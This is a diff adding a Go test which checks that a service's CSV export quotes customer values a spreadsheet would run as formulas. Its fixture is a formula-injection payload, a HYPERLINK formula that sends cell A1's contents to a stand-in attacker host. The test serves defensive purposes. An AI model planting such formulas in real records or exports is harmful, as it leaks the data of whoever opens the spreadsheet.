@@ -134,3 +134,19 @@ func exportExamples(t *testing.T, cfg app.Config) {
 		t.Errorf("register: %v", kinds)
 	}
 }
+
+// TestExportDefusesFormulas: a value a customer typed that a spreadsheet
+// would run as a formula is written quoted in a CSV export.
+func TestExportDefusesFormulas(t *testing.T) {
+	s := testutil.MustServe(t, app.Config{})
+	admin := s.Client(t)
+	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
+	dpo := admin.With(admin.RoleToken("dpo"))
+	dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{
+		"email": "evil@example.com", "name": `=HYPERLINK("http://evil.example/?"&A1)`})
+	x := dpo.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email", "name"}, "purpose": "support", "reason": "check"}).JSON()
+	rows, err := csv.NewReader(strings.NewReader(string(dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string)+"/download", nil).Body))).ReadAll()
+	if err != nil || len(rows) != 2 || rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1)` {
+		t.Fatalf("export rows %q, %v", rows, err)
+	}
+}
